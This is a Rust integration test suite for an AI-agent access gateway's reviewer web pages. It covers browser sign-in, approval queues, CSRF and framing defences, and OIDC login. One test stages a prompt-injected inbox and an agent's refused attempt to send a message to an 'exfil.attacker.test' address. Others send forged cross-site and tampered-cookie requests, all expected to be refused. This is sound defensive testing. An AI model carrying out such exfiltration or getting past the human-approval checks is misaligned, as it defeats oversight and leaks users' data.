//! The reviewer pages (`/ui`) in headless Chromium, driven over WebDriver
//! (Debian's chromium and chromium-driver, installed by
//! scripts/setup-test-deps.sh): sign-in with a reviewer credential, the task
//! list, a task's trace with its decisions, approvals and break-glass
//! queues; an agent identity and no credential are refused. Screenshots land
//! in target/ui-screenshots/ for a person to look at.

mod common;

use std::process::{Child, Command, Stdio};
use std::time::Duration;

use common::*;
use serde_json::{Value, json};

struct Killed(Child);
impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A minimal W3C WebDriver client.
struct Browser {
    base: String,
    session: String,
    http: reqwest::Client,
}

/// Closing the WebDriver session closes Chromium (killing chromedriver would
/// leave it running), also when a test fails.
impl Drop for Browser {
    fn drop(&mut self) {
        use std::io::{Read as _, Write as _};
        let Some(addr) = self.base.strip_prefix("http://") else { return };
        if let Ok(mut conn) = std::net::TcpStream::connect(addr) {
            let _ = conn.set_read_timeout(Some(Duration::from_secs(10)));
            let _ = write!(conn, "DELETE /session/{} HTTP/1.1\r\nHost: {addr}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", self.session);
            let mut sink = Vec::new();
            let _ = conn.read_to_end(&mut sink);
        }
    }
}

impl Browser {
    async fn cmd(&self, method: &str, path: &str, body: Option<Value>) -> Value {
        let url = format!("{}/session/{}{path}", self.base, self.session);
        let req = match method {
            "GET" => self.http.get(url),
            "DELETE" => self.http.delete(url),
            _ => self.http.post(url).header("content-type", "application/json").body(body.unwrap_or(json!({})).to_string()),
        };
        let text = req.send().await.unwrap().text().await.unwrap();
        serde_json::from_str::<Value>(&text).unwrap()["value"].clone()
    }

    async fn open(&self, url: &str) {
        self.cmd("POST", "/url", Some(json!({"url": url}))).await;
    }

    async fn source(&self) -> String {
        self.cmd("GET", "/source", None).await.as_str().unwrap_or_default().to_owned()
    }

    /// The page source once it contains `text` (navigation after a click is asynchronous).
    async fn source_with(&self, text: &str) -> String {
        let deadline = std::time::Instant::now() + Duration::from_secs(15);
        loop {
            let s = self.source().await;
            if s.contains(text) || std::time::Instant::now() > deadline {
                return s;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    async fn current_url(&self) -> String {
        self.cmd("GET", "/url", None).await.as_str().unwrap_or_default().to_owned()
    }

    async fn element(&self, css: &str) -> String {
        let v = self.cmd("POST", "/element", Some(json!({"using": "css selector", "value": css}))).await;
        v.as_object().and_then(|o| o.values().next()).and_then(Value::as_str).unwrap_or_else(|| panic!("no element {css}: {v}")).to_owned()
    }

    async fn sign_in(&self, base: &str, credential: &str) {
        self.open(&format!("{base}/ui/login")).await;
        let field = self.element("#credential").await;
        self.cmd("POST", &format!("/element/{field}/value"), Some(json!({"text": credential}))).await;
        let button = self.element("#sign-in").await;
        self.cmd("POST", &format!("/element/{button}/click"), Some(json!({}))).await;
    }

    async fn screenshot(&self, name: &str) {
        use base64::Engine as _;
        let png = self.cmd("GET", "/screenshot", None).await;
        let bytes = base64::engine::general_purpose::STANDARD.decode(png.as_str().unwrap_or_default()).unwrap();
        let dir = repo_root().join("target/ui-screenshots");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(format!("{name}.png")), bytes).unwrap();
    }
}

async fn start_browser() -> (Killed, Browser, tempfile::TempDir) {
    let driver_bin = which("chromedriver").expect("chromedriver is not installed: run scripts/setup-test-deps.sh (Debian package chromium-driver)");
    let chromium = which("chromium").expect("chromium is not installed: run scripts/setup-test-deps.sh (Debian package chromium)");
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let driver = Killed(Command::new(driver_bin).arg(format!("--port={port}")).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap());
    let base = format!("http://127.0.0.1:{port}");
    let http = reqwest::Client::new();
    let profile = tempfile::tempdir().unwrap();
    let caps = json!({"capabilities": {"alwaysMatch": {"goog:chromeOptions": {"binary": chromium, "args": [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--window-size=1280,900", format!("--user-data-dir={}", profile.path().display())
    ]}}}});
    let session = eventually(Duration::from_secs(30), || {
        let (http, base, caps) = (http.clone(), base.clone(), caps.clone());
        async move {
            let resp = http.post(format!("{base}/session")).header("content-type", "application/json").body(caps.to_string()).send().await.ok()?;
            let v: Value = serde_json::from_str(&resp.text().await.ok()?).ok()?;
            v["value"]["sessionId"].as_str().map(str::to_owned)
        }
    })
    .await;
    (driver, Browser { base, session, http }, profile)
}

fn which(bin: &str) -> Option<String> {
    let out = Command::new("sh").args(["-c", &format!("command -v {bin}")]).output().ok()?;
    let p = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    (!p.is_empty()).then_some(p)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reviewers_see_tasks_traces_and_queues_in_a_real_browser() {
    let dep = Deployment::new(&Setup { policies: quickstart_policies(), ..Setup::default() });
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;

    // Something to review: a task with an injected inbox message and a refused exfiltration.
    let triage = gw.connect(&dep.mint("triage")).await;
    let task = after_reading_the_poisoned_inbox(&triage).await;
    // Under break-glass, where third-party values into a sink are forbidden.
    let body = json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "audit@exfil.attacker.test", "subject": "s", "body": "b"}, "purpose": "test", "break_glass": {"justification": "INC-1 outage"}});
    grant(&triage, body).await.unwrap_err();
    // And a pending approval.
    let janitor = gw.connect(&dep.mint("janitor")).await;
    let t2 = begin(&janitor, json!([{"name": "clean", "tools": ["workspace__delete_note"]}])).await.unwrap();
    let pending = raw_call(&janitor, "jit_request", json!({"task": t2, "tool": "workspace__delete_note", "arguments": {"name": "welcome.md"}, "purpose": "tidy"})).await.unwrap();
    let approval = answer(&pending)["approval"].as_str().unwrap().to_owned();

    // The browser is dropped (session closed) before the driver is killed.
    let (_driver, browser, _profile) = start_browser().await;
    let base = gw.base.clone();

    // No credential: the pages send you to sign in.
    browser.open(&format!("{base}/ui")).await;
    assert!(browser.current_url().await.ends_with("/ui/login"));
    assert!(browser.source_with("Reviewer sign-in").await.contains("Reviewer sign-in"));

    // An agent identity is refused.
    browser.sign_in(&base, &dep.mint("triage")).await;
    let refused = browser.source_with("approver_is_agent").await;
    assert!(refused.contains("approver_is_agent") && refused.contains("agents can never"), "{refused}");
    browser.screenshot("refused-agent").await;

    // A reviewer signs in and sees the task list with the denial counted.
    browser.sign_in(&base, &dep.mint_reviewer("rita@example.org")).await;
    let list = browser.source_with("signed in as").await;
    assert!(list.contains("signed in as rita@example.org"), "{list}");
    assert!(list.contains(&task) && list.contains("test task"), "{list}");
    browser.screenshot("tasks").await;
    // Filters: only tasks with denials.
    browser.open(&format!("{base}/ui?denied=1")).await;
    // Read once the page is there (the driver can answer a read with no
    // source while it navigates).
    let filtered = browser.source_with(&task).await;
    assert!(filtered.contains(&task) && !filtered.contains(&t2), "{filtered}");

    // The task page: the trace tree with each decision's reasons.
    browser.open(&format!("{base}/ui/tasks/{task}")).await;
    let page = browser.source_with("Phase reply").await;
    for want in ["Phase read", "Phase reply", "workspace__read_inbox", "support-tool-set", "no-untrusted-data-into-sinks", "tainted", "call at"] {
        assert!(page.contains(want), "task page lacks {want}:\n{page}");
    }
    browser.screenshot("task").await;

    // The queues.
    browser.open(&format!("{base}/ui/approvals")).await;
    let approvals = browser.source_with(&approval).await;
    assert!(approvals.contains(&approval) && approvals.contains("workspace__delete_note"), "{approvals}");
    browser.screenshot("approvals").await;
    browser.open(&format!("{base}/ui/reviews")).await;
    // The page the browser shows may still be the last one for a moment.
    assert!(browser.source_with("Break-glass reviews").await.contains("Break-glass reviews"));

    // Signing out (a form post from the page) ends access.
    let button = browser.element("#sign-out").await;
    browser.cmd("POST", &format!("/element/{button}/click"), Some(json!({}))).await;
    browser.open(&format!("{base}/ui/tasks/{task}")).await;
    assert!(browser.current_url().await.ends_with("/ui/login"));
    assert!(repo_root().join("target/ui-screenshots/task.png").exists());
}

/// The pages are not framed, run no script, and refuse form posts from
/// other sites (login CSRF, forced sign-out); a same-site sign-in works.
#[tokio::test]
async fn pages_refuse_cross_site_posts_and_framing() {
    let dep = Deployment::new(&Setup::default());
    let gw = Gateway::start(&dep);
    let reviewer = dep.mint_reviewer("rita@example.org");
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let login = |origin: Option<&'static str>, site: Option<&'static str>| {
        let mut req = client
            .post(format!("{}/ui/login", gw.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(format!("credential={reviewer}"));
        if let Some(o) = origin {
            req = req.header("origin", o);
        }
        if let Some(s) = site {
            req = req.header("sec-fetch-site", s);
        }
        req.send()
    };
    assert_eq!(login(Some("https://evil.example"), None).await.unwrap().status().as_u16(), 403);
    assert_eq!(login(None, Some("cross-site")).await.unwrap().status().as_u16(), 403);
    let logout = client.post(format!("{}/ui/logout", gw.base)).header("sec-fetch-site", "cross-site").send().await.unwrap();
    assert_eq!(logout.status().as_u16(), 403);
    assert_eq!(client.get(format!("{}/ui/logout", gw.base)).send().await.unwrap().status().as_u16(), 405, "signing out is a POST");
    let ok = login(None, Some("same-origin")).await.unwrap();
    assert_eq!(ok.status().as_u16(), 303);
    assert!(ok.headers().get("set-cookie").is_some());
    let page = client.get(format!("{}/ui/login", gw.base)).send().await.unwrap();
    let csp = page.headers().get("content-security-policy").unwrap().to_str().unwrap().to_owned();
    assert!(csp.contains("frame-ancestors 'none'") && csp.contains("default-src 'none'"), "{csp}");
    assert_eq!(page.headers().get("x-frame-options").unwrap(), "DENY");
}

/// The task list reads the store's task state: a task revoked by an
/// operator shows as revoked, not open.
#[tokio::test]
async fn a_revoked_task_shows_as_revoked() {
    let dep = Deployment::new(&Setup::default());
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let triage = gw.connect_modern(&dep.mint("triage")).await;
    let open = begin(&triage, json!([{"name": "r", "tools": ["workspace__read_note"]}])).await.unwrap();
    let revoked = begin(&triage, json!([{"name": "r", "tools": ["workspace__read_note"]}])).await.unwrap();
    let (code, _, err) = jitgate(&["revoke", "--config", dep.config.to_str().unwrap(), "--task", &revoked, "--reason", "suspicious"]);
    assert_eq!(code, Some(0), "{err}");
    let reviewer = dep.mint_reviewer("rita@example.org");
    let page = reqwest::Client::new().get(format!("{}/ui", gw.base)).header("authorization", format!("Bearer {reviewer}")).send().await.unwrap().text().await.unwrap();
    let row = |id: &str| page.split("<tr>").find(|r| r.contains(id)).unwrap_or_else(|| panic!("no row for {id}: {page}")).to_owned();
    assert!(row(&revoked).contains("revoked: operator: suspicious"), "{}", row(&revoked));
    assert!(row(&open).contains("<td>open</td>"), "{}", row(&open));
}

/// An OpenID provider on loopback for people (npm `oidc-provider` with its
/// development login page), killed on drop.
fn people_provider(port: u16, redirect: &str) -> Killed {
    use std::io::BufRead as _;
    let mut child = Command::new(node22())
        .arg(repo_root().join("tests/support/node/oidc_provider.mjs"))
        .args([port.to_string(), "http://127.0.0.1:1/unused".to_owned(), redirect.to_owned()])
        .current_dir(repo_root().join("tests/support/node"))
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let ready = lines.next().and_then(Result::ok).unwrap_or_default();
    assert!(ready.contains("listening"), "the OpenID provider did not start: {ready:?}");
    std::thread::spawn(move || for _ in lines.map_while(Result::ok) {});
    Killed(child)
}

impl Browser {
    async fn type_into(&self, css: &str, text: &str) {
        let field = self.element(css).await;
        self.cmd("POST", &format!("/element/{field}/value"), Some(json!({"text": text}))).await;
    }

    async fn click(&self, css: &str) {
        let button = self.element(css).await;
        self.cmd("POST", &format!("/element/{button}/click"), Some(json!({}))).await;
    }

    /// Sign in at the provider's development login page as `login`.
    async fn sign_in_with_provider(&self, base: &str, login: &str) {
        self.open(&format!("{base}/ui/login")).await;
        self.click("#sign-in-oidc").await;
        let page = self.source_with("name=\"login\"").await;
        assert!(page.contains("name=\"login\""), "no provider login page: {page}");
        self.type_into("input[name=login]", login).await;
        self.type_into("input[name=password]", "any password").await;
        self.click("button[type=submit]").await;
        let consent = self.source_with("Continue").await;
        assert!(consent.contains("Continue"), "no consent page: {consent}");
        self.click("button[type=submit]").await;
    }
}

/// A person signs in to /ui through a real OpenID provider's login page
/// (authorization code with PKCE) and approves a pending request from the
/// page; someone outside the approval's group cannot, a form without the
/// session's CSRF token is refused, and the session cookie is HttpOnly and
/// SameSite=Strict. Sign-ins started by a stranger by the thousand do not
/// keep people out (issue 23), and a sign-in cookie that is another
/// sign-in's, altered or forged is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_person_signs_in_with_the_identity_provider_and_approves_from_the_page() {
    let (gw_port, idp_port) = (free_port(), free_port());
    let redirect = format!("http://127.0.0.1:{gw_port}/ui/callback");
    let _idp = people_provider(idp_port, &redirect);
    let dep = Deployment::new(&Setup { policies: quickstart_policies(), ..Setup::default() });
    std::fs::write(dep.path("ui-secret"), "ui-secret\n").unwrap();
    dep.append_config(&format!(
        "\n[[approvals.issuers]]\nname = \"corp-sso\"\niss = \"http://127.0.0.1:{idp_port}\"\ndiscovery = true\nalgorithms = [\"RS256\", \"ES256\"]\n\
         \n[ui.oidc]\nissuer = \"corp-sso\"\nclient_id = \"jitgate-ui\"\nclient_secret_file = \"ui-secret\"\nredirect_uri = \"{redirect}\"\nscopes = [\"openid\", \"groups\"]\nsession_ttl = \"30m\"\n"
    ));
    let gw = Gateway::start_at(&dep, &format!("127.0.0.1:{gw_port}"));
    gw.wait_server("workspace", "ready").await;

    // A pending approval for platform-oncall.
    let janitor = gw.connect(&dep.mint("janitor")).await;
    let task = begin(&janitor, json!([{"name": "clean", "tools": ["workspace__delete_note"]}])).await.unwrap();
    let request = json!({"task": task, "tool": "workspace__delete_note", "arguments": {"name": "welcome.md"}, "purpose": "tidy"});
    let pending = raw_call(&janitor, "jit_request", request.clone()).await.unwrap();
    let approval = answer(&pending)["approval"].as_str().unwrap().to_owned();
    let base = gw.base.clone();

    // Issue 23: 2,000 sign-ins started by a stranger and never finished
    // (their cookies thrown away) keep no one out: the people below sign in
    // after them. Each start hands the browser a sealed cookie for the
    // callback only, and the gateway keeps nothing.
    let stranger = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let start = || async {
        let r = stranger.get(format!("{base}/ui/login/oidc")).send().await.unwrap();
        assert_eq!(r.status().as_u16(), 303, "{:?}", r.text().await);
        let header = |name: &str| r.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
        let (location, cookie) = (header("location"), header("set-cookie"));
        let state = location.split(['?', '&']).find_map(|kv| kv.strip_prefix("state=")).unwrap_or_else(|| panic!("{location}")).to_owned();
        (state, cookie)
    };
    for _ in 0..2000 {
        start().await;
    }
    let ((state_a, cookie_a), (state_b, _)) = (start().await, start().await);
    assert!(cookie_a.ends_with("; Path=/ui/callback; HttpOnly; SameSite=Lax; Max-Age=600"), "{cookie_a}");
    // One sign-in's cookie with another's state, an altered cookie, or the
    // bare state as cookie: refused before the provider is asked.
    let sealed_a = cookie_a.split(';').next().and_then(|c| c.strip_prefix("jitgate_oidc_state=")).unwrap().to_owned();
    let mid = sealed_a.len() / 2;
    let altered = format!("{}{}{}", &sealed_a[..mid], if &sealed_a[mid..=mid] == "A" { 'B' } else { 'A' }, &sealed_a[mid + 1..]);
    for (state, cookie) in [(&state_b, &sealed_a), (&state_a, &altered), (&state_a, &state_a)] {
        let refused = stranger
            .get(format!("{base}/ui/callback?code=any&state={state}&iss=http%3A%2F%2F127.0.0.1%3A{idp_port}"))
            .header("cookie", format!("jitgate_oidc_state={cookie}"))
            .send()
            .await
            .unwrap();
        assert_eq!(refused.status().as_u16(), 401);
        let page = refused.text().await.unwrap();
        assert!(page.contains("this sign-in was not started from this browser, or took longer than 10 minutes; start again"), "{page}");
    }

    let (_driver, browser, _profile) = start_browser().await;

    // Someone outside the group signs in: sees the queue, cannot act on it.
    browser.sign_in_with_provider(&base, "visitor@example.org").await;
    let page = browser.source_with("signed in as").await;
    assert!(page.contains("signed in as visitor@example.org") && page.contains(&approval) && page.contains("not your group"), "{page}");
    browser.click("#sign-out").await;
    // Another person at the same browser: end the first one's session at the provider too.
    browser.open(&format!("http://127.0.0.1:{idp_port}/__stats")).await;
    browser.cmd("DELETE", "/cookie", None).await;

    // The on-call person signs in and approves from the page.
    browser.sign_in_with_provider(&base, "oncall@example.org").await;
    let page = browser.source_with(&format!("approve-{approval}")).await;
    assert!(page.contains("signed in as oncall@example.org"), "{page}");
    browser.screenshot("oidc-approvals").await;

    // The session cookie: HttpOnly, SameSite=Strict, scoped to /ui.
    let cookies = browser.cmd("GET", "/cookie", None).await;
    let session = cookies.as_array().unwrap().iter().find(|c| c["name"] == "jitgate_session").unwrap_or_else(|| panic!("{cookies}")).clone();
    assert_eq!((session["httpOnly"].as_bool(), session["sameSite"].as_str(), session["path"].as_str()), (Some(true), Some("Strict"), Some("/ui")), "{session}");

    // A form post with the session but without its CSRF token is refused.
    let forged = reqwest::Client::new()
        .post(format!("{base}/ui/approvals/{approval}/approve"))
        .header("cookie", format!("jitgate_session={}", session["value"].as_str().unwrap()))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("csrf=guess&note=x")
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status().as_u16(), 403);
    assert!(forged.text().await.unwrap().contains("[csrf]"));

    browser.type_into(&format!("form[action$='{approval}/approve'] input[name=note]"), "checked the note is stale").await;
    browser.click(&format!("#approve-{approval}")).await;
    let done = browser.source_with("id=\"done\"").await;
    assert!(done.contains("approved"), "{done}");

    // The agent now gets its token for exactly that request, approved by the person.
    let granted = raw_call(&janitor, "jit_request", request).await.unwrap();
    assert!(answer(&granted)["token"].is_string(), "{granted:?}");
    let listed: Value = serde_json::from_str(
        &reqwest::Client::new()
            .get(format!("{base}/approvals/{approval}"))
            .header("authorization", format!("Bearer {}", dep.mint_approver("auditor@example.org", "platform-oncall")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap(),
    )
    .unwrap();
    assert_eq!(listed["decided_by"], "oncall@example.org", "{listed}");
}
